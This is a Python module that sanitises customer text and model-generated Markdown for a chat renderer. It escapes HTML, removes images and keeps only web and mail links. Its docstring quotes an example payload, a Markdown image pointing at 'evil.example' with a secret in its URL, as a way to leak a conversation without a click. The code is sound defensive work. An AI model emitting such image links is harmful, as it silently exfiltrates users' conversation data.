"""Text that is safe to hand to the chat's Markdown renderer.

Two rules (REFERENCES.md, "Markdown images in chat can exfiltrate data"):

* customer text is shown as typed: every Markdown and HTML construct in it is escaped;
* model Markdown keeps its formatting (lists, bold, code, links to http/https/mailto) but loses raw
  HTML and every image, because an image URL is fetched by the agent's browser the moment it renders
  (`![](https://evil.example/?q=<secret>)` would leak the conversation without a click).

Both work on plain strings, so the history sidebar, the exports and the tests can use them too.
"""

from __future__ import annotations

import html
import re

# Outside code, a '<' that opens a tag, comment or declaration becomes text.
_HTML_OPEN = re.compile(r"<(?=[A-Za-z/!?])")
# ![alt](target) — inline images; the alt text is kept so the agent still knows what was there.
_INLINE_IMAGE = re.compile(r"!\[([^\]\n]*)\]\([^)\n]*\)?")
# [text](target) — inline links; only web and mail targets stay clickable.
_INLINE_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"\n]*\")?\s*\)")
_SAFE_SCHEMES = ("http://", "https://", "mailto:")
# [ref]: target — a reference definition could feed an image written as ![alt][ref].
_REFERENCE_DEF = re.compile(r"^( {0,3})\[([^\]\n]+)\]:", re.MULTILINE)
# Fenced blocks and inline code spans: their contents are shown verbatim by the renderer already.
_CODE = re.compile(r"(^[ \t]*(`{3,}|~{3,})[^\n]*\n.*?(?:^[ \t]*\2[ \t]*$|\Z)|`[^`\n]+`)", re.MULTILINE | re.DOTALL)

# Customer text: characters that start Markdown syntax anywhere on a line...
_MD_INLINE = re.compile(r"([\\`*_\[\]{}()!|~$])")
# ...and at the start of a line (headings, lists, quotes, rules, setext underlines).
_MD_LINE_START = re.compile(r"^(\s*)([#+\-=>]|\d+[.)])", re.MULTILINE)


def escape_customer_text(text: str) -> str:
    """Customer text for a Markdown renderer: it renders exactly as typed, no syntax, no HTML."""
    escaped = html.escape(text, quote=False)
    escaped = _MD_INLINE.sub(r"\\\1", escaped)
    escaped = _MD_LINE_START.sub(_escape_line_start, escaped)
    # Four leading spaces would turn a line into a code block; non-breaking spaces keep the indent.
    return re.sub(r"^( +)", lambda m: "\u00a0" * len(m.group(1)), escaped, flags=re.MULTILINE)


def clean_model_markdown(text: str) -> str:
    """Model Markdown with raw HTML shown as text, images removed and only web/mail links kept."""
    pieces: list[str] = []
    last = 0
    for match in _CODE.finditer(text):
        pieces.append(_clean_prose(text[last : match.start()]))
        pieces.append(match.group(0))
        last = match.end()
    pieces.append(_clean_prose(text[last:]))
    return "".join(pieces)


def _clean_prose(text: str) -> str:
    text = _INLINE_IMAGE.sub(lambda m: f"*[image removed{': ' + m.group(1) if m.group(1) else ''}]*", text)
    text = _INLINE_LINK.sub(_clean_link, text)
    text = text.replace("![", "!\\[")  # reference-style images: ![alt][ref], ![alt]
    text = _REFERENCE_DEF.sub(r"\1\\[\2]:", text)  # definitions shown as text, so no ref resolves
    return _HTML_OPEN.sub("&lt;", text)


def _clean_link(match: re.Match[str]) -> str:
    label, target = match.group(1), match.group(2)
    if target.lower().startswith(_SAFE_SCHEMES):
        return f"[{label}]({target})"
    return f"{label} ({target})" if target else label


def _escape_line_start(match: re.Match[str]) -> str:
    indent, marker = match.group(1), match.group(2)
    if marker[0].isdigit():
        return f"{indent}{marker[:-1]}\\{marker[-1]}"
    return f"{indent}\\{marker}"
